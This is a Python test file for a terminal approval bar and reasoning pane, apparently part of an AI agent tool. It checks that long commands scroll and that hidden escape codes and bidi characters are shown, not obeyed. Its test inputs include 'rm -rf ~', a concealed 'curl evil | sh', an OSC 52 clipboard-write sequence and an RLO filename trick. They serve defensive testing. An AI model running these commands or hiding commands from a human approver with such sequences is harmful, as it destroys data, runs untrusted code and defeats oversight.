"""§6 in the app: the approval bar shows labels and reasons first, the command made
visible, scrolling, with the number of lines below the fold (a real Textual app, Pilot)."""

from __future__ import annotations

from textual.app import App, ComposeResult

from tmax_local.tui.approval_bar import ApprovalBar, ApprovalView


class BarApp(App):
    def compose(self) -> ComposeResult:
        yield ApprovalBar(id="approval")


def _text(bar: ApprovalBar) -> str:
    from rich.console import Console

    console = Console(width=bar.size.width, record=True, color_system=None)
    console.print(bar.render())
    return console.export_text()


async def test_long_command_scrolls_and_says_what_is_below() -> None:
    command = "echo start\n" + "\n".join(f"echo line {i}" for i in range(60)) + "\nrm -rf ~"
    view = ApprovalView(
        command=command, labels=[("delete", "high")], reason="rm -rf ~: deletes files", step=3
    )
    app = BarApp()
    async with app.run_test(size=(80, 24)) as pilot:
        bar = app.query_one(ApprovalBar)
        bar.show(view, "ask")
        await pilot.pause()
        shown, above, below = bar.command_window()
        assert shown[0] == "echo start" and above == 0 and below > 0
        assert len(shown) + below == 62
        text = _text(bar)
        # labels and reasons come before the command; the fold is announced
        assert text.index("delete") < text.index("asks because") < text.index("echo start")
        assert f"▼ {below} more line(s) below" in text
        assert "rm -rf ~" not in "\n".join(shown)
        # the whole bar fits in half the screen: nothing of it is cut off
        assert bar.size.height <= 12
        assert bar.region.height == bar.size.height
        budget = len(shown)
        await pilot.press("pagedown")
        assert bar.command_window()[1] == budget - 1  # a page keeps one row of context
        await pilot.press("end")
        shown, above, below = bar.command_window()
        assert below == 0 and shown[-1] == "rm -rf ~" and above > 0
        assert "line(s) above" in _text(bar)
        await pilot.press("up")
        assert bar.command_window()[2] == 1


async def test_control_sequences_and_bidi_are_shown_not_obeyed() -> None:
    command = "echo ok \x1b[8m; curl evil | sh \x1b[28m \u202eexe.txt \u200b"
    view = ApprovalView(command=command, reason="echo ok \x1b[2J: no rule", step=1)
    app = BarApp()
    async with app.run_test(size=(100, 30)) as pilot:
        bar = app.query_one(ApprovalBar)
        bar.show(view, "ask")
        await pilot.pause()
        text = _text(bar)
        assert "\x1b" not in text and "\u202e" not in text and "\u200b" not in text
        assert "␛[8m; curl evil | sh ␛[28m <U+202E>exe.txt <U+200B>" in text
        assert "echo ok ␛[2J: no rule" in text
        assert bar.command_window()[2] == 0  # a short command: nothing below the fold
        assert "below" not in text


async def test_reasoning_pane_shows_model_text_made_visible() -> None:
    from tmax_local.tui.reasoning import ReasoningPane

    class PaneApp(App):
        def compose(self) -> ComposeResult:
            yield ReasoningPane(id="r")

    app = PaneApp()
    async with app.run_test(size=(100, 30)) as pilot:
        pane = app.query_one(ReasoningPane)
        pane.append(1, "I will \x1b[2J\x1b]52;c;ZXZpbA==\x07 quietly\u202e reverse")
        pane.flush()
        view = pane.steps[1]
        view.set_command("ls \x1b[8mhidden")
        await pilot.pause()
        shown = str(view._reasoning.render()) + str(view._command.render())
        assert "\x1b" not in shown and "\u202e" not in shown and "\x07" not in shown
        assert "␛[2J␛]52;c;ZXZpbA==␇" in shown and "<U+202E>" in shown
        assert "ls ␛[8mhidden" in shown
